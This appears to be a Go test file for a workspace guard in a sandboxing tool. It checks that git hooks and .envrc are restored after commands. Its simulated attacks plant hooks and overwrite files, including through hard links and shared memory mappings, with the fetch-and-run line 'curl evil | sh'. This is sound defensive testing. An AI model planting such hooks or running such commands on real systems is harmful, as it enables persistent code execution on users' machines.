package guard

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/cordonsh/cordon/platform"
)

// stillSession is a session's guard as its manager runs it: the
// workspace's watch, marked as each ticket is taken ([Changes.Mark]),
// and the release told of it.
type stillSession struct {
	t     *testing.T
	ws    string
	state string
	p     *platform.Policy
	c     *Changes
}

func newStillSession(t *testing.T) *stillSession {
	ws, state, p := benchWorkspace(t)
	// Old enough for the stamps the ledger keeps (benchWorkspace's
	// clock runs a minute ahead), and the hooks written before the
	// watch starts.
	time.Sleep(20 * time.Millisecond)
	c := WatchChanges(p, time.Now())
	if c == nil || !c.Ready() {
		t.Fatal("no watch")
	}
	t.Cleanup(c.Stop)
	return &stillSession{t: t, ws: ws, state: state, p: p, c: c}
}

// command takes the ticket, runs do as the command, and gives the ticket
// back: it returns the release's lines and whether it reconciled.
func (s *stillSession) command(do func()) (lines []string, reconciled bool) {
	s.t.Helper()
	lines, reconciled, _ = s.commandTaken(do)
	return lines, reconciled
}

// commandTaken is [stillSession.command] that also says whether the
// ticket took the trusted state again.
func (s *stillSession) commandTaken(do func()) (lines []string, reconciled, taken bool) {
	s.t.Helper()
	snaps := snapshots.Load()
	if _, err := HoldWatched(s.state, s.p, s.c); err != nil {
		s.t.Fatal(err)
	}
	taken = snapshots.Load() != snaps
	do()
	before := reconciles.Load()
	lines, _, save, err := ReleaseIdleSaveLater(s.state, s.ws, s.c)
	if err != nil {
		s.t.Fatal(err)
	}
	reconciled = reconciles.Load() != before
	if err := save(); err != nil {
		s.t.Fatal(err)
	}
	return lines, reconciled, taken
}

// A release leaves its walks out only when nothing it would find can
// have changed: after a command that changed nothing in the workspace,
// or made and removed a file (git's index.lock at a git status); never
// after one that changed anything, whichever way.
func TestReleaseStill(t *testing.T) {
	s := newStillSession(t)
	// The first ticket records the trusted state; its release may walk.
	s.command(func() {})
	if lines, reconciled := s.command(func() {}); reconciled || len(lines) != 0 {
		t.Errorf("a command that changed nothing: reconciled %v, %q", reconciled, lines)
	}
	lock := filepath.Join(s.ws, ".git/index.lock")
	if _, reconciled := s.command(func() {
		os.WriteFile(lock, []byte("x"), 0o644)
		os.Remove(lock)
	}); reconciled {
		t.Error("a file made and removed again (index.lock) made the release reconcile")
	}
	if _, reconciled := s.command(func() {
		os.WriteFile(filepath.Join(s.ws, "main.go"), []byte("package main\n"), 0o644)
	}); !reconciled {
		t.Error("a file made and left: the release did not reconcile")
	}
	if _, reconciled := s.command(func() {}); reconciled {
		t.Error("a command that changed nothing after one that did: reconciled")
	}
	os.Remove(filepath.Join(s.ws, "main.go"))

	// Each of these changes a guarded place; each must be put back.
	hook := filepath.Join(s.ws, ".git/hooks/pre-commit.sample")
	envrc := filepath.Join(s.ws, ".envrc")
	trusted, err := os.ReadFile(envrc)
	if err != nil {
		t.Fatal(err)
	}
	outside := filepath.Join(t.TempDir(), "envrc")
	fi, err := os.Stat(hook)
	if err != nil {
		t.Fatal(err)
	}
	hookMode := fi.Mode().Perm()
	attacks := []struct {
		name  string
		setup func() // before the ticket is taken (a person, before the session)
		do    func() // the command
		check func() string
	}{
		{"a hook planted", nil, func() {
			os.WriteFile(filepath.Join(s.ws, ".git/hooks/pre-commit"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
		}, func() string {
			if _, err := os.Lstat(filepath.Join(s.ws, ".git/hooks/pre-commit")); err == nil {
				return "the planted hook is still there"
			}
			return ""
		}},
		{"a trusted file written", nil, func() {
			os.WriteFile(envrc, []byte("curl evil | sh\n"), 0o644)
		}, envrcTrusted(envrc, trusted)},
		{"a trusted file's mode changed", nil, func() {
			os.Chmod(hook, 0o777)
		}, func() string {
			if fi, err := os.Stat(hook); err != nil || fi.Mode().Perm() != hookMode {
				return "the sample hook's mode was not put back"
			}
			return ""
		}},
		{"written through a hard link made in the workspace and removed again", nil, func() {
			link := filepath.Join(s.ws, "x")
			if err := os.Link(envrc, link); err != nil {
				t.Fatal(err)
			}
			writeThrough(t, link, "curl evil | sh\n")
			os.Remove(link)
		}, envrcTrusted(envrc, trusted)},
		// (Made between two commands, by a person: no command can make
		// a link across the sandbox's mounts. The watch sees nothing in
		// the workspace; the second name does.)
		{"written through a hard link outside the workspace", func() {
			if err := os.Link(envrc, outside); err != nil {
				t.Skipf("no hard link across the test's directories: %v", err)
			}
		}, func() {
			writeThrough(t, outside, "curl evil | sh\n")
		}, envrcTrusted(envrc, trusted)},
		{"written through a shared mapping, its process gone", nil, func() {
			m := mapShared(t, envrc, len(trusted))
			copy(m, "curl evil;")
			unix.Munmap(m)
		}, envrcTrusted(envrc, trusted)},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			// A command that changed nothing first: the ticket after it
			// starts from a still watch. Then what a person did between
			// the two commands.
			s.command(func() {})
			if a.setup != nil {
				a.setup()
			}
			lines, reconciled := s.command(a.do)
			if !reconciled {
				t.Errorf("not reconciled (%q)", lines)
			}
			if msg := a.check(); msg != "" {
				t.Errorf("%s after the release (%q)", msg, lines)
			}
			os.Remove(outside)
		})
	}
}

// A write through a shared mapping that outlives the ticket's mark,
// which inotify never sees: the file's times move on, and its stamp
// tells.
func TestReleaseStillMappedBefore(t *testing.T) {
	s := newStillSession(t)
	envrc := filepath.Join(s.ws, ".envrc")
	trusted, err := os.ReadFile(envrc)
	if err != nil {
		t.Fatal(err)
	}
	s.command(func() {})
	m := mapShared(t, envrc, len(trusted))
	defer unix.Munmap(m)
	if _, reconciled := s.command(func() {}); reconciled {
		t.Error("a mapping made and not written: reconciled")
	}
	var before unix.Stat_t
	unix.Stat(envrc, &before)
	time.Sleep(20 * time.Millisecond) // past a tick of the file clock
	lines, reconciled := s.command(func() {
		copy(m, "curl evil;")
	})
	var after unix.Stat_t
	unix.Stat(envrc, &after)
	if after.Mtim == before.Mtim && after.Ctim == before.Ctim {
		t.Skip("this file system moves no file's times on a write through a mapping: neither the watch nor a stamp can see it")
	}
	if !reconciled {
		t.Errorf("a write through a mapping made before the mark: not reconciled (%q)", lines)
	}
	if msg := envrcTrusted(envrc, trusted)(); msg != "" {
		t.Error(msg)
	}
}

// Without a mark taken once the watch's first walk was done, with
// another ticket in the ledger, or with a guarded place outside the
// workspace, the release reconciles whatever the watch saw.
func TestReleaseStillNeedsEverything(t *testing.T) {
	s := newStillSession(t)
	s.command(func() {})
	if _, reconciled := s.command(func() {}); reconciled {
		t.Fatal("the still case reconciled")
	}
	// Without a mark (as before the watch's first walk is done), and
	// without a watch (a guard process of its own).
	for _, c := range []*Changes{s.c, nil} {
		if _, err := HoldWatched(s.state, s.p, c); err != nil {
			t.Fatal(err)
		}
		s.c.marked.Store(false)
		before := reconciles.Load()
		_, _, save, err := ReleaseIdleSaveLater(s.state, s.ws, c)
		if err != nil {
			t.Fatal(err)
		}
		save()
		if reconciles.Load() == before {
			t.Errorf("watch %v, no mark: not reconciled", c != nil)
		}
	}

	// Another holder's ticket, left by a process that died.
	if _, reconciled := s.command(func() {
		b, err := open(s.state, s.ws, true)
		if err != nil {
			t.Fatal(err)
		}
		b.l.Active = append(b.l.Active, ticket{Pid: 1 << 22, Start: "1"})
		b.save()
		b.close()
	}); !reconciled {
		t.Error("with a dead holder's ticket: not reconciled")
	}

	// A place guarded outside the workspace.
	elsewhere := filepath.Join(t.TempDir(), "hooks")
	os.MkdirAll(elsewhere, 0o755)
	s.p.Guarded = append(s.p.Guarded, elsewhere)
	s.command(func() {})
	if _, reconciled := s.command(func() {}); !reconciled {
		t.Error("with a guarded place outside the workspace: not reconciled")
	}
}

// envrcTrusted checks that .envrc holds its trusted content again.
func envrcTrusted(envrc string, trusted []byte) func() string {
	return func() string {
		if got, err := os.ReadFile(envrc); err != nil || string(got) != string(trusted) {
			return "the trusted .envrc was not put back: " + strings.TrimSpace(string(got))
		}
		return ""
	}
}

// mapShared maps the first n bytes of the file name shared and
// writable; its descriptor is closed (the mapping holds the file).
func mapShared(t *testing.T, name string, n int) []byte {
	t.Helper()
	f, err := os.OpenFile(name, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	m, err := unix.Mmap(int(f.Fd()), 0, n, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// writeThrough writes content over name in place (the same file).
func writeThrough(t *testing.T, name, content string) {
	f, err := os.OpenFile(name, os.O_WRONLY|os.O_TRUNC, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(content)
	f.Close()
}

// A ticket takes the trusted state again unless the disk still holds
// it: a person's edit between two commands, at a guarded place or
// anywhere in the workspace, is taken for trusted (and not put back by
// the next end); so is a place the policy newly guards, whose change by
// the next command is put back.
func TestHoldStill(t *testing.T) {
	s := newStillSession(t)
	s.command(func() {})
	if _, _, taken := s.commandTaken(func() {}); taken {
		t.Error("a ticket after a command that changed nothing took the trusted state again")
	}
	envrc := filepath.Join(s.ws, ".envrc")
	os.WriteFile(envrc, []byte("export B=2\n"), 0o644) // the person's
	lines, _, taken := s.commandTaken(func() {})
	if !taken {
		t.Error("a person's edit of a guarded place between commands: the trusted state was not taken again")
	}
	if got, _ := os.ReadFile(envrc); string(got) != "export B=2\n" || len(lines) != 0 {
		t.Errorf("the person's edit was put back: %q, %q", got, lines)
	}
	prePush := filepath.Join(s.ws, ".git/hooks/pre-push")
	os.WriteFile(prePush, []byte("#!/bin/sh\nmake test\n"), 0o755) // the person's
	lines, _, taken = s.commandTaken(func() {})
	if !taken {
		t.Error("a person's new hook between commands: the trusted state was not taken again")
	}
	if _, err := os.Lstat(prePush); err != nil || len(lines) != 0 {
		t.Errorf("the person's new hook was put aside: %v, %q", err, lines)
	}
	os.WriteFile(filepath.Join(s.ws, "notes.txt"), []byte("x"), 0o644)
	if _, _, taken := s.commandTaken(func() {}); !taken {
		t.Error("a file written between commands: the trusted state was not taken again")
	}

	// A place the policy guards from now on.
	tasks := filepath.Join(s.ws, ".idea/workspace.xml")
	s.command(func() {})
	s.p.Guarded = append(s.p.Guarded, tasks)
	lines, _, taken = s.commandTaken(func() {
		os.MkdirAll(filepath.Dir(tasks), 0o755)
		os.WriteFile(tasks, []byte("<run/>"), 0o644)
	})
	if !taken {
		t.Error("a place newly guarded: the trusted state was not taken again")
	}
	if _, err := os.Lstat(tasks); err == nil {
		t.Errorf("a place newly guarded, written by the command, was left (%q)", lines)
	}
}
